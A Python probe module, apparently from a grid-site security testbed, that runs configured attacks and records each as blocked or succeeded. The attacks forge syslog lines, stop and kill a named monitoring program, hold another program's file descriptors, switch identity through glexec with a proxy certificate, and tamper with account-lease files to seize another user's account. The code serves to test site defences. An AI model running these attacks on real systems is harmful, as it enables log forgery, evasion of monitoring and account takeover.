"""A payload, or a pilot, that lies to its site: ``python3 - TARGETS < liar.py``.

TARGETS is JSON: attack -> {"kind": "syslog", "line", "control", perhaps "log"}, {"kind": "silence", "program"},
{"kind": "hold", "program", "seconds"}, {"kind": "switch", "program", "proxy", "ident"} or {"kind": "leases", "folder",
"account", "name", "old"}. It prints attack -> {"attempt", "saw", "errno"}, as `testbed.node.probes.finding` has them.
Whether the site believes it, is seen in the site's log and folders: what is said here is what the kernel and the switch
let it do.
"""

import contextlib
import json
import os
import signal
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Mapping
from pathlib import Path

from testbed.node.probes.finding import Finding, Target, blocked, succeeded, text, tried, untried

LOG = "/dev/log"
MOST_TAKEN = 16
"""The descriptors of a process that are tried, from 0 on; the switch has fewer."""
CALL_LIMIT = 15.0
"""Seconds for one call of the switch."""


def forge(line: str, control: str, where: str = "") -> Finding:
    """Write a line into the system's log as any program does, syslog(3), or into one elsewhere; and then a harmless
    one, the same way.

    A log that has the harmless one has not lost the other: it did not want it.
    """
    where = where or LOG
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as log:
        log.connect(where)
        log.send(line.encode())
        log.send(control.encode())
    return succeeded(f"{where} took: {line}")


def silence(program: str) -> Finding:
    """Kill every process of a program that can be seen, the one that waits for this payload among them.

    They are stopped first: one that sees another die has no time to say so.
    """
    seen = [int(place.name) for place in Path("/proc").glob("[0-9]*") if named(place, program)]
    killed = []
    for kind in (signal.SIGSTOP, signal.SIGKILL):
        killed = [pid for pid in seen if signalled(pid, kind)]
    saw = f"{len(seen)} processes of {program} seen, {len(killed)} of them killed"
    return succeeded(saw) if killed else blocked(saw)


def hold(program: str, seconds: float) -> Finding:
    """Leave a child in a session of its own that has all of ours open, and all that it can take of a program's.

    Who waits for the end of one of these waits for the child, and not for us.
    """
    ours, its = os.pipe()
    if not (child := os.fork()):
        os.setsid()
        seen = [
            pid for pid in map(int, filter(str.isdecimal, os.listdir("/proc"))) if named(Path(f"/proc/{pid}"), program)
        ]
        taken = sum(opened(f"/proc/{pid}/fd/{number}") for pid in seen for number in range(MOST_TAKEN))
        os.write(its, f"{taken} descriptors of {len(seen)} processes of {program}".encode())
        os.close(its)
        time.sleep(seconds)
        os._exit(0)
    os.close(its)
    said = os.read(ours, 200).decode()
    os.close(ours)
    saw = f"process {child} keeps our own streams open, and {said}"
    return succeeded(saw) if said else untried("the child did not say what it holds")


def opened(path: str) -> bool:
    """Whether a file could be opened, which from then on stays open: without waiting for anybody at its other end."""
    with contextlib.suppress(OSError):
        return os.open(path, os.O_RDWR | os.O_NONBLOCK) >= 0
    return False


def signalled(pid: int, kind: signal.Signals) -> bool:
    """Whether a process took a signal."""
    try:
        os.kill(pid, kind)
    except (PermissionError, ProcessLookupError):
        return False
    return True


def named(place: Path, program: str) -> bool:
    """Whether a process in /proc is of this program."""
    with contextlib.suppress(OSError):
        return (place / "comm").read_text().strip() == program
    return False


def call(program: str, proxy: str, ident: str) -> Finding:
    """Call the switch with a proxy, or with one's own where none is given."""
    own = os.environ.get("X509_USER_PROXY", "")
    if not proxy and not own:
        return untried("the payload has no proxy of its own")
    with tempfile.TemporaryDirectory() as folder:
        file = Path(folder) / "proxy.pem"
        file.touch(0o600)
        file.write_bytes(proxy.encode() if proxy else Path(own).read_bytes())
        done = subprocess.run(
            [program, "/usr/bin/id", "-u"],
            env={"GLEXEC_CLIENT_CERT": str(file), "GLEXEC_ID": ident, "PATH": "/usr/bin", "X509_USER_PROXY": own},
            stdin=subprocess.DEVNULL,
            capture_output=True,
            timeout=CALL_LIMIT,
            check=False,
        )
    if done.returncode == 0 and done.stdout.strip().isdigit():
        return succeeded(f"{program} ran a command as uid {done.stdout.strip().decode()}")
    return blocked(f"{program} ended with {done.returncode}: {text(done.stderr)}")


def tamper(folder: str, account: str, name: str, old: int) -> Finding:
    """Give oneself somebody else's account: link, rename, remove, write, make, whatever the folder lets one do.

    A lease that is very old is the first that a site takes back: one of those there gets ``old`` as its time.
    """
    place = Path(folder)
    if not place.is_dir():
        return blocked(f"there is no {folder} here")
    own, renamed = place / f"{name}-new", place / f"{name}-renamed"
    lease = place / lease_in(place)

    def replace() -> None:
        own.touch()
        os.utime(own, (old, old))
        own.rename(lease)

    changes: dict[str, Callable[[], object]] = {
        "link": lambda: (place / name).hardlink_to(place / account),
        "write": lambda: (place / account).write_text(name),
        "open to all": lambda: (place / account).chmod(0o666),
        "make": own.touch,
        "make a lease old": lambda: os.utime(lease, (old, old)),
        "replace a lease by an old one": replace,
        "remove a lease": lease.unlink,
        "rename": lambda: (place / account).rename(renamed),
        "remove": lambda: (renamed if renamed.exists() else place / account).unlink(),
    }
    done, errors = [], []
    for change, does in changes.items():
        try:
            does()
            done.append(change)
        except OSError as error:
            errors.append(f"{change}: {error.strerror}")
    refused = f"; refused: {', '.join(errors)}" if errors else ""
    return succeeded(f"{folder}: {', '.join(done)}{refused}") if done else blocked("; ".join(errors))


def lease_in(place: Path) -> str:
    """The first name in the folder that is a user's; one that nobody has where there is none, or nobody may look."""
    with contextlib.suppress(OSError):
        return min((each.name for each in place.iterdir() if each.name.startswith("%")), default="%2fcn%3dnobody")
    return "%2fcn%3dnobody"


def attempt(target: Target) -> Finding:
    """One attack."""
    match target["kind"]:
        case "syslog":
            return forge(str(target["line"]), str(target["control"]), str(target.get("log", "")))
        case "silence":
            return silence(str(target["program"]))
        case "hold":
            return hold(str(target["program"]), float(str(target["seconds"])))
        case "switch":
            try:
                return call(str(target["program"]), str(target["proxy"]), str(target["ident"]))
            except subprocess.TimeoutExpired as error:
                return untried(str(error))
        case "leases":
            return tamper(str(target["folder"]), str(target["account"]), str(target["name"]), int(str(target["old"])))
        case kind:
            return untried(f"no such kind of attack: {kind}")


def main(targets: Mapping[str, Target]) -> None:
    """Try every attack."""
    print(json.dumps({attack: tried(attempt, target) for attack, target in targets.items()}))


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
